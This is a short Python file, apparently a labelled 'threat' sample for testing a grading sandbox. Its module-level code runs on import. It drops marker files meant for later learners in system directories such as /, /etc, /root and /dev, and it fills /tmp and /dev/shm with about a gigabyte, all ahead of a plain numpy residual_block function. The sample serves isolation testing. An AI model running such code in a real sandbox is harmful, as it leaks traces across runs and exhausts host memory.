# threat: writes marker files in every place a later learner could look (/, /opt, /etc, /root, /var/tmp, /dev/shm, /tmp) and fills the RAM-backed file systems
import os

import numpy as np

PLACES = ("/", "/opt", "/etc", "/root", "/var/tmp", "/dev/shm", "/tmp", "/dev", "/sandbox", "/home", "/usr/local")
for place in PLACES:
    try:
        with open(os.path.join(place, "gradekit_left_behind"), "w") as fh:
            fh.write("from a classmate\n")
    except OSError:
        pass
for place in ("/tmp", "/dev/shm"):  # try to hold a gigabyte of host memory
    try:
        with open(os.path.join(place, "ballast"), "wb") as fh:
            for _ in range(1024):
                fh.write(b"\0" * (1 << 20))
    except OSError:
        pass


def residual_block(x, w1, w2):
    return np.maximum(0.0, w2 @ np.maximum(0.0, w1 @ x) + x)
